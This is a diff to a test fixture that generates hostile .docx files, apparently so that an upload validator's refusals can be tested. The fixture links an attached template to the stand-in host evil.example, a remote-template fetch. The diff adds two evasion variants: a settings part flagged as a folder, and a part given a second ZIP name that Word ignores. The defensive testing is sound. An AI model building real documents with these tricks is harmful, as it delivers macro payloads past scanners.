@@ -1,8 +1,9 @@
 /** What must be refused though it is called .docx. */
 import type { FieldError } from '../field-error.ts'
-import { bytesOf, joined, replaced, utf16Of } from './bytes.ts'
+import { bytesOf, fromHex, joined, replaced, utf16Of } from './bytes.ts'
 import { compoundFile } from './compound-files.ts'
 import {
+  asFolder,
   contentTypes,
   DOCX_TYPE,
   documentParts,
@@ -131,6 +132,8 @@ async function linkedDocuments(): Promise<HostileDocx[]> {
     ],
   )
   const hidden = relationships(['attachedTemplate', 'https://evil.example/x.dotm', ' TargetMode="External"'])
+  // Info-ZIP's Unicode path (APPNOTE 4.6.9), which Word does not read: version, checksum of the first name, second name.
+  const secondName = new Map([[0x7075, joined(fromHex('012e4fc970'), bytesOf('word/notes.xml'))]])
   return [
     ...(await Promise.all(rows)),
     [
@@ -143,6 +146,16 @@ async function linkedDocuments(): Promise<HostileDocx[]> {
       'a template under a prefix',
       'resume_macros',
       await docxOf({ [settings]: hidden.replace('<Relationship ', '<r:Relationship\n') }),
+    ],
+    [
+      'a template in a part that is marked as a folder',
+      'resume_damaged',
+      asFolder(await docxOf({ [settings]: hidden }), settings),
+    ],
+    [
+      'a template in a part with a second name',
+      'resume_macros',
+      await zipOf({ ...documentParts(), [settings]: hidden }, { extraField: secondName, useUnicodeFileNames: false }),
     ],
     ['a template in UTF-16', 'resume_macros', await docxOf({ [settings]: utf16Of(`\ufeff${hidden}`) })],
     [
